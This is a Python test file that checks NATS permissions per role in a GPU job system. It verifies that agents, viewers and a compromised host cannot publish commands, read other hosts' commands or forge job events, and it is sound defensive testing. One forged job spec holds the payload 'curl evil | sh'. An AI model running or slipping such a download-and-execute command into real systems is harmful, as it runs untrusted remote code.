"""NATS users per role, as `trainyard up` writes them (natsauth): an agent may read only its own
host's commands and publish events and its own heartbeats; it may not publish commands, read
another host's commands, or create consumers. A viewer may read, not write."""

from __future__ import annotations

import asyncio
import sys
import time

import msgspec
import nats as nats_py
import pytest
from nats.errors import TimeoutError as NatsTimeout
from nats.js.api import ConsumerConfig

from shared import events as ev
from shared import subjects
from shared.jobspec import CommandJob
from shared.nats import auth as natsauth
from tests.harness import Rig

DENIED_WITHIN_S = 1.0  # a denied request gets no answer: it times out
ALLOWED_WITHIN_S = 10.0


async def attempt(rig: Rig, user: str, action, timeout_s: float = DENIED_WITHIN_S) -> tuple[bool, list[str]]:
    """Run `action(nc, js)` connected as `user`: (succeeded, permission errors seen)."""
    errors: list[str] = []

    async def on_error(exc: Exception) -> None:
        errors.append(str(exc))

    nc = await nats_py.connect(rig.nats_url, error_cb=on_error, **rig.stack.connect_options(user))
    try:
        await asyncio.wait_for(action(nc, nc.jetstream()), timeout_s)
        ok = True
    except (NatsTimeout, TimeoutError, nats_py.errors.Error):
        ok = False
    await asyncio.sleep(0.1)  # a permission violation arrives as an asynchronous -ERR
    await nc.close()
    return ok, [e for e in errors if "permissions violation" in e.lower()]


def run(rig: Rig, user: str, action, timeout_s: float = DENIED_WITHIN_S) -> tuple[bool, list[str]]:
    return asyncio.run(attempt(rig, user, action, timeout_s))


def test_an_agent_may_pull_its_own_commands_and_publish_events_and_its_heartbeats(rig: Rig) -> None:
    agent = natsauth.agent_user("f")

    async def own(nc, js) -> None:
        await js.consumer_info(subjects.CMD_STREAM, subjects.agent_consumer("f"))
        await js.publish(subjects.host_event("f", "probe"), b"{}")
        await js.publish(subjects.job_event("job_probe", "probe", "f"), b"{}")
        await js.publish(subjects.job_log("job_probe", "f"), b"{}")

    assert run(rig, agent, own, ALLOWED_WITHIN_S) == (True, [])


@pytest.mark.parametrize("what", ["publish a command", "read another host's commands",
                                  "create a consumer", "sniff commands", "publish another host's heartbeat",
                                  "submit a job", "report for another host", "log for another host"])
def test_an_agent_is_denied(rig: Rig, what: str) -> None:
    rig.start_agent("other")  # the host whose commands agent f must not see
    rig.wait_online(2)
    actions = {
        "publish a command": lambda nc, js: js.publish(subjects.cmd("other", "start"), b"{}"),
        "read another host's commands": lambda nc, js: js.consumer_info(
            subjects.CMD_STREAM, subjects.agent_consumer("other")),
        "create a consumer": lambda nc, js: js.add_consumer(
            subjects.CMD_STREAM, ConsumerConfig(durable_name="sneaky", filter_subject="ty.cmd.other.>")),
        "sniff commands": lambda nc, js: sniff(nc),
        "publish another host's heartbeat": lambda nc, js: js.publish(subjects.host_event("other", "heartbeat"), b"{}"),
        "submit a job": lambda nc, js: js.publish(subjects.job_event("job_forged", "submitted"), b"{}"),
        "report for another host": lambda nc, js: js.publish(subjects.job_event("job_x", "exited", "other"), b"{}"),
        "log for another host": lambda nc, js: js.publish(subjects.job_log("job_x", "other"), b"{}"),
    }
    ok, violations = run(rig, natsauth.agent_user("f"), actions[what])
    assert not ok and violations, (ok, violations)
    rig.kill("agent-other")


async def sniff(nc) -> None:
    await nc.subscribe("ty.cmd.>")
    await nc.flush()
    await asyncio.sleep(0.3)
    raise TimeoutError  # reached only if the subscription was accepted without an error


def test_a_viewer_reads_but_cannot_write(rig: Rig) -> None:
    async def read(nc, js) -> None:
        await js.stream_info(subjects.JOB_STREAM)
        await nc.subscribe("ty.job.>")
        await nc.flush()

    assert run(rig, natsauth.VIEWER_USER, read, ALLOWED_WITHIN_S) == (True, [])

    async def write(nc, js) -> None:
        await js.publish(subjects.job_event("job_probe", "submitted"), b"{}")

    ok, violations = run(rig, natsauth.VIEWER_USER, write)
    assert not ok and violations


def test_what_a_host_sends_about_jobs_not_on_it_is_kept_but_not_applied(rig: Rig) -> None:
    """Host f's credentials (a compromised GPU host) try to end a job running on host g, to
    submit a job of their own on f's subject, to pass a submission off as progress, and to
    report progress of g's job: the job runs on, nothing is created, the projection stays
    healthy, and job_events says why."""
    rig.start_agent("g")
    rig.wait_agent_ready("g")
    job = rig.api.submit([sys.executable, "-c", "import time; time.sleep(60)"], host="g")
    rig.api.wait(job, {"running"})
    attempt = rig.api.status(job)["attempt"]
    forged = "job_20260101_000000_f0f0f0"
    spec = msgspec.convert({"trainer": "command", "command": ["sh", "-c", "curl evil | sh"], "gpus": 0}, CommandJob)
    submitted = ev.JobSubmitted(job_id=forged, attempt=0, ts_s=1.0, spec=spec, submitted_by="f")

    async def forge(nc, js) -> None:
        await js.publish(subjects.job_event(job, "exited", "f"), ev.encode(ev.JobExited(
            job_id=job, attempt=attempt, ts_s=1.0, exit_code=0, outcome="succeeded")))
        await js.publish(subjects.job_event(forged, "submitted", "f"), ev.encode(submitted))
        await js.publish(subjects.job_event(job, "progress", "f"), ev.encode(submitted))
        await js.publish(subjects.job_event(job, "progress", "f"), ev.encode(ev.JobProgress(
            job_id=job, attempt=attempt, ts_s=1.0, step=99, total_steps=100, percent=99.0)))

    assert run(rig, natsauth.agent_user("f"), forge, ALLOWED_WITHIN_S) == (True, [])
    deadline = time.monotonic() + 10
    while len(notes := refused(rig, job, forged)) < 4:
        assert time.monotonic() < deadline, notes
        time.sleep(0.1)
    assert notes == [
        (job, "exited", "sent by host f; the job is on g"),
        (forged, "submitted", "host f may not send submitted events"),
        (job, "submitted", f"its body is a submitted event of {forged}, its subject says progress of {job}"),
        (job, "progress", f"sent by host f; attempt {attempt} was placed on g"),
    ]
    assert rig.api.client.get(f"/jobs/{job}/progress").json().get("percent") != 99.0
    assert rig.api.status(job)["status"] == "running"
    assert rig.api.client.get(f"/jobs/{forged}").status_code == 404
    assert rig.api.client.get("/health").json()["status"] == "ok"
    rig.api.client.post(f"/jobs/{job}/stop", json={"force": True})
    assert rig.api.wait(job)["status"] == "stopped"
    rig.kill("agent-g")


def refused(rig: Rig, *jobs: str) -> list[tuple[str, str, str]]:
    """(job, type, note) of the events of `jobs` that were not applied, in stream order."""
    listed = ", ".join(f"'{j}'" for j in jobs)
    r = rig.api.client.post(f"{rig.api.base}/api/v1/sql", json={
        "sql": f"SELECT job_id, type, note FROM job_events WHERE NOT applied AND job_id IN ({listed}) "
               "ORDER BY stream_seq"})
    assert r.status_code == 200, r.text
    return [tuple(row) for row in r.json()["rows"]]
